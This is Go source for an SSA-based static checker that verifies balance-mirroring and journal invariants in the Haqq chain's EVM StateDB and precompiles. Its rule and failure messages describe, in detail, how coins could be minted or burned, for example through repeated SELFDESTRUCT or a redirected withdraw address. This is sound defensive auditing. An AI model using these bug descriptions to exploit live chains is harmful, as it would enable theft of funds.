	r.Count("R4 effect sites classified non-moving", nNonMoving)

	// ---------- R11: a mirror after a reward-paying effect is measured, not assumed ----------
	r.Rule("R11", "FLOW.mirror-measures-the-balance: the staking message server's Delegate, Undelegate, BeginRedelegate and CancelUnbondingDelegation run the distribution hooks, which pay the pending rewards of the touched delegation out to the delegator — so the delegator's bank balance changes by more than the message amount whenever rewards are pending. In a handler of such an effect the amount of every StateDB balance mirror derives from a bank-side balance read made after the effect (the measured change); an amount taken from the message alone leaves the rewards out, and the final Commit writes the cached balance over the bank's — the rewards are burned")
	rewardPaying := map[string]string{
		"Delegate":                  "Keeper.Delegate → BeforeDelegationSharesModified → distribution withdrawDelegationRewards",
		"Undelegate":                "Keeper.Undelegate → Unbond → BeforeDelegationSharesModified",
		"BeginRedelegate":           "Keeper.BeginRedelegation → Unbond + Delegate → hooks on both delegations",
		"CancelUnbondingDelegation": "Keeper.Delegate back to the validator → BeforeDelegationSharesModified",
	}
	nRP := 0
	for _, m := range models {
		if !m.Stateful || !strings.HasSuffix(m.Rel, "/staking") {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil || !h.IsTx {
				continue
			}
			var eff ssa.CallInstruction
			for _, s2 := range effectSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				if _, ok := rewardPaying[s2.Info.Name]; ok && strings.Contains(s2.Info.PkgPath, "x/staking") && s2.Call.Parent() == h.Fn {
					eff = s2.Call
				}
			}
			if eff == nil {
				continue
			}
			nRP++
			nM := 0
			eachCall(h.Fn, func(ci CallInfo) {
				if !isStateDBBalanceWrite(ci) {
					return
				}
				nM++
				a := ci.Instr.Common().Args
				amount := a[len(a)-1]
				measured := false
				backSlice(amount).Any(func(v ssa.Value) bool {
					c, ok := v.(*ssa.Call)
					if !ok {
						return false
					}
					g := callInfo(c)
					if g.Recv == "StateDB" || !strings.Contains(g.Name, "Balance") {
						return false
					}
					if instrMayPrecede(eff, c) {
						measured = true
					}
					return measured
				})
				r.Check(measured, "R11", fmt.Sprintf("%s#mirror-measures-the-balance/%s", fnID(h.Fn), ci.Name), P.Pos(instrPos(ci.Instr)), "mirrored amount derives from a balance read after the effect",
					"the handler mirrors a fixed amount (taken from the message) into the StateDB after an effect that also pays out the delegation's pending rewards: the cached balance misses the rewards and the final Commit burns them — for a direct call by the delegator, the most ordinary use")
			})
			if nM == 0 {
				r.OK("R11", fnID(h.Fn)+"#mirror-measures-the-balance", P.Pos(fnPos(h.Fn)), "no StateDB mirror in this handler (the missing mirror is R4's subject)")
			}
		}
	}
	r.Floor("R11", "staking handlers with a reward-paying effect", nRP, 4)

	// ---------- R12: a mirror follows the account that was paid ----------
	r.Rule("R12", "PATH.mirror-follows-the-payee: the distribution message server pays rewards and commission to the *withdraw address* of the delegator / validator, which the account may have pointed elsewhere. In a distribution handler a StateDB credit for the caller is reachable only over the edge on which the withdraw address (GetDelegatorWithdrawAddr) equals the credited account, or its amount is measured from a bank balance read after the effect — a mirror that credits the caller unconditionally pays the rewards a second time (minted at Commit) whenever the withdraw address is another account")
	nPayee := 0
	for _, m := range models {
		if !m.Stateful || !strings.HasSuffix(m.Rel, "/distribution") {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil || !h.IsTx {
				continue
			}
			var eff ssa.CallInstruction
			for _, s2 := range effectSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				if (strings.HasPrefix(s2.Info.Name, "WithdrawDelegatorReward") || s2.Info.Name == "WithdrawValidatorCommission" || strings.HasPrefix(s2.Info.Name, "WithdrawDelegationRewards")) && s2.Call.Parent() == h.Fn {
					eff = s2.Call
				}
			}
			if eff == nil {
				continue
			}
			eq, _ := condEdges(h.Fn, func(x, y ssa.Value) bool {
				isW := func(v ssa.Value) bool {
					return backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "GetDelegatorWithdrawAddr" })
				}
				return isW(x) || isW(y)
			})
			eachCall(h.Fn, func(ci CallInfo) {
				if !isStateDBBalanceWrite(ci) {
					return
				}
				nPayee++
				a := ci.Instr.Common().Args
				measured := false
				backSlice(a[len(a)-1]).Any(func(v ssa.Value) bool {
					c, ok := v.(*ssa.Call)
					if ok {
						if g := callInfo(c); g.Recv != "StateDB" && strings.Contains(g.Name, "Balance") && instrMayPrecede(eff, c) {
							measured = true
						}
					}
					return measured
				})
				call := ci.Instr
				w := PathQuery{Fn: h.Fn, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(call) }, DelEdge: edgeSet(eq)}.Search()
				r.Check(measured || (w == nil && len(eq) > 0), "R12", fmt.Sprintf("%s#mirror-follows-the-payee/%s", fnID(h.Fn), ci.Name), P.Pos(instrPos(ci.Instr)), "credited only where the withdraw address is the credited account (or measured)",
					"the handler credits the caller in the StateDB without having established that the rewards were paid to the caller: with a withdraw address that points elsewhere the bank pays that address and the final Commit additionally mints the same amount to the caller", P.witness(w)...)
			})
		}
	}
	r.Floor("R12", "StateDB credits in distribution handlers", nPayee, 1)

	// ---------- R5 ----------
	var wiredAddrs []string
	for _, m := range models {
		tname := m.Type.Obj().Name()
		var addrFn *ssa.Function
		for _, pre := range []string{"(" + m.Rel + "." + tname + ").", "(*" + m.Rel + "." + tname + ")."} {
			if fn, ok := P.FnOK(pre + "Address"); ok && fn.Synthetic == "" {
				addrFn = fn
			}
		}
		if addrFn == nil {
			r.Bad("R5", m.Rel+"#Address", "", "wired precompile has no Address() method with a body")
			continue
		}
		got := ""
		eachCall(addrFn, func(ci CallInfo) {
			if ci.Name == "HexToAddress" {
				if s, ok := constString(argN(ci.Instr, 0)); ok {
					got = strings.ToLower(s)
				}
			}
		})
		if got == "" {
			r.Bad("R5", m.Rel+"#Address", P.Pos(fnPos(addrFn)), "Address() does not return common.HexToAddress(<constant>)")
			continue
		}
		m.AddrConst = got
		wiredAddrs = append(wiredAddrs, got)
	}
	sort.Strings(wiredAddrs)
	ext, okE := stringSliceVar(P, haqqMod+"/x/evm/types", "AvailableEVMExtensions")
	b32, okB := stringSliceVar(P, haqqMod+"/precompiles/common", "DefaultPrecompilesBech32")
	if !okE || !okB {
		r.Bad("R5", "tables", "", "AvailableEVMExtensions / DefaultPrecompilesBech32 are not constant string slices any more")
	} else {
		var extL, b32L []string
		for _, e := range ext {
			extL = append(extL, strings.ToLower(e))
		}
		for _, b := range b32 {
			_, hx, err := bech32DecodeToHex(b)
			if err != nil {
				r.Bad("R5", "bech32/"+b, "", "not decodable")
				continue
			}
			b32L = append(b32L, hx)
		}
		sort.Strings(extL)
		sort.Strings(b32L)
		r.Check(strings.Join(extL, ",") == strings.Join(wiredAddrs, ","), "R5", "wired=AvailableEVMExtensions", "", fmt.Sprintf("%d addresses agree", len(extL)),
			fmt.Sprintf("wired precompile addresses %v differ from evmtypes.AvailableEVMExtensions %v (an active address without a wired precompile makes Keeper.Precompiles panic; a wired one that is not active is unreachable)", wiredAddrs, extL))
		r.Check(strings.Join(b32L, ",") == strings.Join(wiredAddrs, ","), "R5", "wired=DefaultPrecompilesBech32", "", fmt.Sprintf("%d addresses agree", len(b32L)),
			fmt.Sprintf("wired precompile addresses %v differ from the bech32 list that BlockedAddrs blocks %v (an unblocked precompile address can receive coins; value transfers to it would be minted/burned on Commit)", wiredAddrs, b32L))
	}
	if ba, ok := P.FnOK("(*app.Haqq).BlockedAddrs"); ok {
		found := false
		eachInstr(ba, func(in ssa.Instruction) {
			if mu, ok := in.(*ssa.MapUpdate); ok {
				if backSlice(mu.Key).Any(func(v ssa.Value) bool {
					g, ok := v.(*ssa.Global)
					return ok && g.Name() == "DefaultPrecompilesBech32"
				}) {
					found = true
				}
			}
		})
		r.Check(found, "R5", "(*app.Haqq).BlockedAddrs#precompiles", P.Pos(fnPos(ba)), "precompile addresses are inserted into the blocked set", "BlockedAddrs no longer inserts common.DefaultPrecompilesBech32")
	} else {
		r.Bad("R5", "anchor/BlockedAddrs", "", "(*app.Haqq).BlockedAddrs not found")
	}
	// the whole-transaction cache context is what discards a failed transaction's mid-transaction flush
	// (stateDB.Commit() before every precompile dispatch) — the same rule code as C05 R2
	r.Rule("R6", "see C05 R2 (imported): the message always runs on a cache context that is committed only on success")
	r.Import("R6/C05.", []string{"R2"}, runC05)
	// a balance change that a revert does not undo is minted or burned by the final Commit: the journal discipline
	// of x/evm/statedb is part of this property too — the same rule code as C05 R4
	r.Rule("R13", "see C05 R10 (imported): what a mid-transaction StateDB.Commit (the flush every precompile starts with) wrote is rewritten by the next Commit even when a reverted frame removed the address from the journal's dirty set — otherwise a payment made in a frame that calls a precompile and reverts stays with the payee while the payer's balance is restored by minting")
	r.Import("R13/C05.", []string{"R10"}, runC05)
	r.Rule("R16", "PATH.coins-without-an-account-exist-for-the-evm: the bank can hold coins for an address that has no auth account (a balance of the bank genesis; the repository's own test genesis has one). If the EVM keeper's GetAccount answers 'no such account' for it, the StateDB creates a fresh object with balance 0 on the first write to the address — a 1 wei transfer, a zero-value SELFDESTRUCT naming it — and Commit 'reconciles' the bank balance down to that: the coins are burned. GetAccount therefore returns nil only after it has looked at the bank balance (GetBalance) in that call")
	if ga, ok := P.FnOK("(*x/evm/keeper.Keeper).GetAccount"); ok {
		isBal := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetBalance" })
		w := PathQuery{Fn: ga, Block: isBal, Target: func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			return ok && len(ret.Results) == 1 && isNilConst(ret.Results[0])
		}}.Search()
		r.Check(w == nil, "R16", fnID(ga)+"#nil-only-after-the-bank-balance", P.Pos(fnPos(ga)), "every `return nil` follows a read of the address's bank balance",
			"the EVM keeper's GetAccount answers 'no such account' without looking at the bank balance: an address that holds coins but has no auth account loses its whole balance on the first EVM write to it (burned at Commit)", P.witness(w)...)
	} else {
		r.Bad("R16", "anchor/Keeper.GetAccount", "", "not found")
	}
	// R11 (continued): the balance the staking mirror measures is the bank balance — the StateDB holds bank balances,
	// spendable (unlocked) amounts differ from them for every vesting account
	if gb, ok := P.FnOK("(x/staking/keeper.Keeper).GetBondDenomBalance"); ok {
		okBal := false
		eachInstr(gb, func(in ssa.Instruction) {
			ret, isR := in.(*ssa.Return)
			if !isR || len(ret.Results) != 1 {
				return
			}
			sl := backSlice(ret.Results[0])
			okBal = sl.HasCall(func(g CallInfo) bool { return g.Name == "GetBalance" }) &&
				!sl.HasCall(func(g CallInfo) bool { return g.Name == "SpendableCoins" || g.Name == "SpendableCoin" || g.Name == "LockedCoins" || g.Name == "Sub" })
		})
		r.Check(okBal, "R11", fnID(gb)+"#measures-the-bank-balance", P.Pos(fnPos(gb)), "returns bank GetBalance of the bond denomination, unedited",
			"the helper the staking precompile's mirror measures with does not return the plain bank balance (spendable coins, or a balance net of something): for a vesting account the before/after difference is then not what the bank moved, and Commit mints or burns the gap")
	} else {
		r.Bad("R11", "anchor/GetBondDenomBalance", "", "not found")
	}
	r.Rule("R18", "FLOW.the-caller-sees-the-denomination-that-moved: the ICS-20 precompile decides whether to mirror the sender's bank debit in the StateDB by looking at msg.Token.Denom *after* the transfer keeper returned — and Haqq's transfer wrapper moves the pair's coin when the message names the pair's erc20/… alias. The two agree only because the wrapper rewrites the denomination in the caller's own message: every call of the embedded ibc-go Transfer in the wrapper is handed the very pointer the wrapper received, and the denomination is stored through that pointer (never into a copy) — with a copy the precompile still sees the alias, skips the mirror, and a journal-dirty sender gets the escrowed amount minted back at Commit")
	if wt, ok := P.FnOK("(x/ibc/transfer/keeper.Keeper).Transfer"); ok {
		var msgP *ssa.Parameter
		for _, p := range wt.Params {
			if p.Name() == "msg" {
				msgP = p
			}
		}
		okArg, nInner := msgP != nil, 0
		eachCall(wt, func(ci CallInfo) {
			if ci.Name != "Transfer" || ci.Static == nil || isHaqqPath(fnPkgPath(ci.Static)) {
				return
			}
			nInner++
			same := false
			for _, a := range ci.Instr.Common().Args {
				if stripValue(a) == ssa.Value(msgP) {
					same = true
				}
			}
			if !same {
				okArg = false
			}
		})
		okStore := false
		eachInstr(wt, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if _, f, ok := fieldOfAddr(st.Addr); ok && f == "Denom" && msgP != nil && addrRoot(st.Addr) == ssa.Value(msgP) {
				okStore = true
			}
		})
		r.Check(okArg && okStore && nInner >= 1, "R18", fnID(wt)+"#rewrites-the-callers-message", P.Pos(fnPos(wt)), "the embedded Transfer gets the received pointer; Token.Denom is stored through it",
			"Haqq's transfer wrapper hands ibc-go a copy of the message (or no longer rewrites the denomination in place): the ICS-20 precompile, which reads msg.Token.Denom after the call to decide whether to mirror the debit, still sees the erc20/… alias and skips the mirror — the sender's debit is overwritten at Commit")
	} else {
		r.Bad("R18", "anchor/x/ibc/transfer wrapper Transfer", "", "not found")
	}
	r.Rule("R17", "PATH.destruction-clears-the-coins-on-every-path: SELFDESTRUCT has paid the contract's balance to the beneficiary inside the EVM; the keeper's DeleteAccount is what takes the coins away from the destroyed address in the bank. Every return of DeleteAccount that is not a failure follows SetBalance(addr, 0) — also the early return for an address that has no auth account (a contract created onto a coin-holding address and destroyed in the same transaction never gets one): otherwise the coins exist twice, and with a CREATE2 factory as often as the factory is called")
	if da, ok := P.FnOK("(*x/evm/keeper.Keeper).DeleteAccount"); ok {
		isClear := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetBalance" })
		w := PathQuery{Fn: da, Block: isClear, Target: func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			return ok && classifyExit(ret) == ExitSuccess
		}}.Search()
		r.Check(w == nil, "R17", fnID(da)+"#clears-the-balance-on-every-success-path", P.Pos(fnPos(da)), "every success return follows SetBalance",
			"DeleteAccount can return success without clearing the destroyed address's bank balance", P.witness(w)...)
	} else {
		r.Bad("R17", "anchor/DeleteAccount", "", "not found")
	}
	r.Rule("R15", "PATH.absence-is-asked-afresh: precompiles create accounts behind the StateDB's back (a bank credit to a fresh withdraw address, a new validator's pool share), so 'this address has no account' is a fact about the SDK state that the StateDB may not remember: getStateObject answers nil only on a path on which this very invocation asked the keeper (GetAccount) — with a remembered absence, value sent to the address later in the transaction goes through CreateAccount with balance 0 and Commit overwrites what the precompile credited")
	if gso, ok := P.FnOK("(*x/evm/statedb.StateDB).getStateObject"); ok {
		isAsk := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetAccount" && ci.Invoke })
		w := PathQuery{Fn: gso, Block: isAsk, Target: func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			return ok && len(ret.Results) == 1 && isNilConst(ret.Results[0])
		}}.Search()
		nAsk := len(findCalls(gso, func(ci CallInfo) bool { return ci.Name == "GetAccount" && ci.Invoke }))
		r.Check(w == nil && nAsk >= 1, "R15", fnID(gso)+"#nil-only-after-asking-the-keeper", P.Pos(fnPos(gso)), "every `return nil` follows a keeper.GetAccount of this invocation",
			"getStateObject can answer 'no such account' without asking the keeper (a remembered absence): an account a precompile created in the meantime is invisible to the EVM, is re-created empty by the next value transfer, and its balance is overwritten at Commit", P.witness(w)...)
	} else {
		r.Bad("R15", "anchor/StateDB.getStateObject", "", "not found")
	}
	r.Rule("R14", "PATH.per-token-precompile-moves-are-mirrored: the ERC-20 / WERC-20 precompiles (instantiated per token pair, not through the static registry) move bank coins of the pair's denomination with a bank MsgSend or an authz dispatch — and for the pair of the native coin (WISLM) that denomination is the one the StateDB caches. In every function of these packages that receives the StateDB and performs such a move, every success exit after the move passes a StateDB.SubBalance and a StateDB.AddBalance (the mirror, as werc20.Deposit has it); without it a journal-dirty sender is written back with its stale balance at Commit and the transferred amount is minted")
	{
		n := 0
		for _, fn := range P.Funcs {
			pk := fnPkgPath(fn)
			if !(strings.HasSuffix(pk, "/precompiles/erc20") || strings.HasSuffix(pk, "/precompiles/werc20")) || fn.Synthetic != "" || isTestSupport(P, fn) {
				continue
			}
			hasDB := false
			for _, p := range fn.Params {
				if namedName(p.Type()) == "StateDB" {
					hasDB = true
				}
			}
			if !hasDB {
				continue
			}
			var moves []ssa.CallInstruction
			eachCall(fn, func(ci CallInfo) {
				if isCosmosEffect(ci) && (ci.Name == "Send" || ci.Name == "MultiSend" || ci.Name == "DispatchActions" || strings.HasPrefix(ci.Name, "SendCoins")) {
					moves = append(moves, ci.Instr)
				}
			})
			if len(moves) == 0 {
				continue
			}
			n++
			isDB := func(name string) func(ssa.Instruction) bool {
				isCall := func(in ssa.Instruction) bool {
					c, ok := in.(ssa.CallInstruction)
					if !ok {
						return false
					}
					ci := callInfo(c)
					return ci.Name == name && ci.Recv == "StateDB"
				}
				return func(in ssa.Instruction) bool {
					if isCall(in) {
						return true
					}
					// a branch on the pair's denomination one side of which holds the mirror: only the native coin's pair needs it
					iff, ok := in.(*ssa.If)
					if !ok || !backSlice(iff.Cond).HasField("TokenPair", "Denom") {
						return false
					}
					for _, succ := range in.Block().Succs {
						for _, b := range fn.Blocks {
							if !dominates(succ, b) {
								continue
							}
							for _, x := range b.Instrs {
								if isCall(x) {
									return true
								}
							}
						}
					}
					return false
				}
			}
			var wit []ssa.Instruction
			for _, mv := range moves {
				for _, name := range []string{"SubBalance", "AddBalance"} {
					if w := (PathQuery{Fn: fn, Start: mv, Block: isDB(name), Target: func(x ssa.Instruction) bool {
						ret, ok := x.(*ssa.Return)
						return ok && classifyExit(ret) != ExitFailure
					}}).Search(); w != nil && wit == nil {
						wit = w
					}
				}
			}
			r.Check(wit == nil, "R14", fnID(fn)+"#native-coin-move-mirrored", P.Pos(fnPos(fn)), "every success exit after the bank move passes SubBalance and AddBalance on the StateDB",
				"a per-token precompile method moves bank coins of the pair's denomination without mirroring the move in the StateDB: for the native coin's pair (WISLM) a journal-dirty sender — one wei attached to the call is enough — is reset to its pre-transfer balance at Commit, so the recipient's credit is minted", P.witness(wit)...)
		}
		r.Floor("R14", "per-token precompile methods that move bank coins", n, 1)
		// WISLM.deposit(): the EVM has already moved the attached value caller -> precompile in the StateDB; deposit hands it
		// back (the wrapped coin IS the native coin), so both halves are there on every success exit, for the value itself
		if dep, ok := P.FnOK("(precompiles/werc20.Precompile).Deposit"); ok {
			half := func(name, who string) []ssa.Instruction {
				return PathQuery{Fn: dep, Block: func(in ssa.Instruction) bool {
					c, ok := in.(ssa.CallInstruction)
					if !ok {
						return false
					}
					ci := callInfo(c)
					if ci.Name != name || ci.Recv != "StateDB" || len(callArgs(c)) < 2 {
						return false
					}
					a := callArgs(c)
					isM := func(v ssa.Value, m string) bool {
						return backSlice(v).HasCall(func(x CallInfo) bool { return x.Name == m && x.Recv == "Contract" })
					}
					return isM(a[len(a)-2], who) && isM(a[len(a)-1], "Value")
				}, Target: func(x ssa.Instruction) bool {
					ret, ok := x.(*ssa.Return)
					return ok && classifyExit(ret) != ExitFailure
				}}.Search()
			}
			w := append(half("AddBalance", "Caller"), half("SubBalance", "Address")...)
			r.Check(len(w) == 0, "R14", fnID(dep)+"#attached-value-handed-back", P.Pos(fnPos(dep)), "AddBalance(contract.Caller(), contract.Value()) and SubBalance(contract.Address(), contract.Value()) on every success exit",
				"WISLM.deposit() does not hand the attached value back in the StateDB on every success path (credit of the caller and debit of the precompile address, both of contract.Value()): the value stays with — or is taken twice from — the blocked precompile address and Commit mints or burns the difference", P.witness(w)...)
		} else {
			r.Bad("R14", "anchor/werc20.Deposit", "", "(precompiles/werc20.Precompile).Deposit not found")
		}
	}
	r.Rule("R8", "see C05 R4 (imported): every write to revertible StateDB state is journalled, every entry's Revert restores what was written after it was appended, from recorded values")
	r.Import("R8/C05.", []string{"R4"}, runC05)

	r.Rule("R9", "PATH.params-authority: the message handlers of x/evm and of Haqq's x/bank wrapper whose request carries an Authority field (MsgUpdateParams — the EVM denomination, the active precompiles; bank send-enabled) write module state only where that field equals the module authority: the EVM denomination that Commit mints and burns is not changeable by an ordinary signer")
	r.Floor("R9", "authority-guarded message handlers (x/evm, x/bank)", checkAuthorityGuards(r, "R9", "x/evm/keeper", "x/bank/keeper"), 2)

	// R3 (premise, continued): the dirty set is a reference count per address
	{
		isDirties := func(v ssa.Value) bool {
			u, ok := v.(*ssa.UnOp)
			if !ok || u.Op != token.MUL {
				return false
			}
			_, f, ok2 := fieldOfAddr(u.X)
			return ok2 && f == "dirties"
		}
		lookupOfDirties := func(v ssa.Value) bool {
			v = stripValue(v)
			if ex, ok := v.(*ssa.Extract); ok {
				v = ex.Tuple
			}
			lk, ok := v.(*ssa.Lookup)
			return ok && isDirties(lk.X)
		}
		okApp, okRev := false, false
		if ap, ok := P.FnOK("(*x/evm/statedb.journal).append"); ok {
			eachInstr(ap, func(in ssa.Instruction) {
				if mu, ok := in.(*ssa.MapUpdate); ok && isDirties(mu.Map) {
					if bo, ok := stripValue(mu.Value).(*ssa.BinOp); ok && bo.Op == token.ADD {
						if c, isC := constInt(bo.Y); isC && c == 1 && lookupOfDirties(bo.X) {
							okApp = true
						}
					}
				}
			})
		}
		if rv, ok := P.FnOK("(*x/evm/statedb.journal).Revert"); ok {
			dec := false
			eachInstr(rv, func(in ssa.Instruction) {
				if mu, ok := in.(*ssa.MapUpdate); ok && isDirties(mu.Map) {
					if bo, ok := stripValue(mu.Value).(*ssa.BinOp); ok && bo.Op == token.SUB {
						if c, isC := constInt(bo.Y); isC && c == 1 && lookupOfDirties(bo.X) {
							dec = true
						}
					}
				}
			})
			// delete(dirties, addr) only over the edge on which the counter is zero
			zero, _ := condEdges(rv, func(x, y ssa.Value) bool {
				c, isC := constInt(y)
				return isC && c == 0 && lookupOfDirties(x)
			})
			isDel := func(in ssa.Instruction) bool {
				c, ok := in.(*ssa.Call)
				if !ok {
					return false
				}
				b, ok := c.Call.Value.(*ssa.Builtin)
				return ok && b.Name() == "delete" && len(c.Call.Args) > 0 && isDirties(c.Call.Args[0])
			}
			w := PathQuery{Fn: rv, Target: isDel, DelEdge: edgeSet(zero)}.Search()
			hasDel := false
			eachInstr(rv, func(in ssa.Instruction) {
				if isDel(in) {
					hasDel = true
				}
			})
			okRev = dec && hasDel && len(zero) > 0 && w == nil
		}
		r.Check(okApp && okRev, "R3", "(*x/evm/statedb.journal)#dirty-reference-count", "", "append: dirties[addr]++ ; Revert: dirties[addr]-- and delete exactly at zero",
			fmt.Sprintf("the journal's dirty set is no longer a per-address reference count (append increments: %v; Revert decrements and deletes only at zero: %v): an account dirtied in an outer frame and touched again in a reverted inner frame drops out of the dirty set, so Commit skips it — its debit or credit is never written (mint or burn)", okApp, okRev))
	}

	// R7: an account object that replaces another inherits its balance
	r.Rule("R7", "PATH.create-carries-balance: StateDB.CreateAccount (CREATE/CREATE2 onto an address that already has an account object or a bank balance) sets the new object's balance from the previous object's balance on every path on which createObject returned a previous object — whatever the previous object's journal state; the balance cached in an object is what Commit writes, so an object that starts at zero burns the address's coins")
	if ca, ok := P.FnOK("(*x/evm/statedb.StateDB).CreateAccount"); ok {
		var co *ssa.Call
		eachInstr(ca, func(in ssa.Instruction) {
			if c, ok := in.(*ssa.Call); ok && callInfo(c).Name == "createObject" {
				co = c
			}
		})
		if co == nil {
			r.Bad("R7", fnID(ca)+"#carries-balance", P.Pos(fnPos(ca)), "CreateAccount no longer obtains the previous object from createObject")
		} else {
			isPrev := func(v ssa.Value) bool {
				ex, ok := stripValue(v).(*ssa.Extract)
				return ok && ex.Tuple == ssa.Value(co) && ex.Index == 1
			}
			prevNil, _ := condEdges(ca, func(x, y ssa.Value) bool { return isPrev(x) && isNilConst(y) })
			isCarry := func(in ssa.Instruction) bool {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					return false
				}
				ci := callInfo(c)
				if ci.Name != "setBalance" && ci.Name != "SetBalance" {
					return false
				}
				a := callArgs(c)
				if len(a) < 2 {
					return false
				}
				recvNew := false
				if ex, ok := stripValue(a[0]).(*ssa.Extract); ok && ex.Tuple == ssa.Value(co) && ex.Index == 0 {
					recvNew = true
				}
				fromPrev := false
				backSlice(a[1]).Any(func(v ssa.Value) bool {
					if isPrev(v) {
						fromPrev = true
					}
					return fromPrev
				})
				return recvNew && fromPrev
			}
			isRet := func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok }
			w := PathQuery{Fn: ca, Start: co, Block: isCarry, Target: isRet, DelEdge: edgeSet(prevNil)}.Search()
			r.Check(w == nil && len(prevNil) > 0, "R7", fnID(ca)+"#carries-balance", P.Pos(fnPos(ca)), "new object's balance := previous object's balance whenever a previous object exists",
				"CreateAccount can return without carrying the previous object's balance over although a previous object exists: the new contract object starts at zero and the final Commit burns what the address held (e.g. a CREATE2 address funded in an earlier transaction)", P.witness(w)...)
		}
	} else {
		r.Bad("R7", "anchor/StateDB.CreateAccount", "", "not found")
	}

	// R10: SELFDESTRUCT empties the destroyed object every time it reports success
	r.Rule("R10", "PATH.suicide-clears-balance: StateDB.Suicide (the interpreter credits the beneficiary with the contract's balance and then calls it) reaches no return other than the 'no such account' one without writing the object's cached balance (a store to account.Balance or setBalance/SetBalance) — a contract can be funded again and self-destruct again within one transaction; if the second call leaves the cached balance in place the same coins sit with the beneficiary and with the contract, and Commit mints the difference")
	if sf, ok := P.FnOK("(*x/evm/statedb.StateDB).Suicide"); ok {
		var get *ssa.Call
		eachInstr(sf, func(in ssa.Instruction) {
			if c, ok := in.(*ssa.Call); ok && callInfo(c).Name == "getStateObject" && get == nil {
				get = c
			}
		})
		isClear := func(in ssa.Instruction) bool {
			switch x := in.(type) {
			case *ssa.Store:
				_, f, ok := fieldOfAddr(x.Addr)
				return ok && f == "Balance"
			case ssa.CallInstruction:
				n := callInfo(x).Name
				return n == "setBalance" || n == "SetBalance"
			}
			return false
		}
		isRet := func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok }
		if get == nil {
			r.Bad("R10", fnID(sf)+"#clears-balance", P.Pos(fnPos(sf)), "Suicide no longer obtains the object with getStateObject")
		} else {
			objNil, _ := condEdges(sf, func(x, y ssa.Value) bool { return stripValue(x) == ssa.Value(get) && isNilConst(y) })
			w := PathQuery{Fn: sf, Start: get, Block: isClear, Target: isRet, DelEdge: edgeSet(objNil)}.Search()
			r.Check(w == nil && len(objNil) > 0, "R10", fnID(sf)+"#clears-balance", P.Pos(fnPos(sf)), "every return for an existing object passes a write of its cached balance",
				"Suicide can return for an existing object without resetting its cached balance: value that reached an already self-destructed contract again is credited to the beneficiary by the interpreter and stays with the contract too — Commit mints the difference", P.witness(w)...)
		}
	} else {
		r.Bad("R10", "anchor/StateDB.Suicide", "", "not found")
	}

}

// checkDepVersions: the frozen effects table is only valid for the dependency versions it was read from.
func checkDepVersions(r *Run) {
	want := map[string]string{
		"github.com/cosmos/cosmos-sdk": "v0.47.12-evmos.2",
		"github.com/cosmos/ibc-go/v7":  "v7.4.0",
	}
	got := map[string]string{}
	for _, pk := range r.P.Pkgs {
		_ = pk
	}
	// read go.mod of the analysed tree (replace directives decide the effective version)
	b, err := readFile(r.P.RepoDir + "/go.mod")
	if err != nil {
		r.Fail("cannot read go.mod: %v", err)
		return
	}
	for _, line := range strings.Split(string(b), "\n") {
		f := strings.Fields(strings.TrimSpace(line))
		for mod := range want {
			// "mod vX" in require, or "mod => other vX" in replace
			if len(f) >= 2 && f[0] == mod && strings.HasPrefix(f[1], "v") {
				if _, set := got[mod]; !set {
					got[mod] = f[1]
				}
			}
			if len(f) >= 4 && f[0] == mod && f[1] == "=>" {
				got[mod] = f[len(f)-1]
			}
			if len(f) >= 5 && f[0] == "replace" && f[1] == mod && f[2] == "=>" {
				got[mod] = f[len(f)-1]
			}
		}
	}
	for mod, v := range want {
		r.Check(got[mod] == v, "R4", "effects-table/"+mod, "go.mod", "effects table confirmed for "+v,
			fmt.Sprintf("dependency %s resolves to %q but the bank-moving effects table was confirmed by reading %s: re-confirm the table", mod, got[mod], v))
	}
}

var _ = types.Universe

// writesDiscardedCacheCtx: the sdk.Context argument of the call is the first result of a
// ctx.CacheContext() call whose second result (the write-back function) is never used.
func writesDiscardedCacheCtx(c ssa.CallInstruction) bool {
	for _, a := range c.Common().Args {
		if namedName(a.Type()) != "Context" {
			continue
		}
		ex, ok := stripValue(a).(*ssa.Extract)
		if !ok || ex.Index != 0 {
			return false
		}
		call, ok := ex.Tuple.(*ssa.Call)
		if !ok || callInfo(call).Name != "CacheContext" {
			return false
		}
		for _, ref := range *call.Referrers() {
			if e2, ok := ref.(*ssa.Extract); ok && e2.Index == 1 {
				if e2.Referrers() != nil && len(*e2.Referrers()) > 0 {
					return false
				}
			}
		}
		return true
	}
	return false
}

// addrOfLoad: for v = *p returns p, else nil.
func addrOfLoad(v ssa.Value) ssa.Value {
	if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
		return u.X
	}
	return nil
}

// journalAppenders: functions of x/evm/statedb that reach (*journal).append through static calls.
func journalAppenders(P *Prog) map[*ssa.Function]bool {
	app, ok := P.FnOK("(*x/evm/statedb.journal).append")
	out := map[*ssa.Function]bool{}
	if !ok {
		return out
	}
	out[app] = true
	for changed := true; changed; {
		changed = false
		for _, fn := range P.Funcs {
			if out[fn] || fn.Pkg == nil || !pathHasSuffix(fn.Pkg.Pkg.Path(), "x/evm/statedb") || isTestSupport(P, fn) {
				continue
			}
			eachCall(fn, func(ci CallInfo) {
				if ci.Static != nil && out[ci.Static] && !out[fn] {
					out[fn] = true
					changed = true
				}
			})
		}
	}
	return out
}
