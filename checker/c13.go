package main

import (
	"fmt"
	"go/ast"
	"math/big"
	"strconv"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C13",
		Run: runC13,
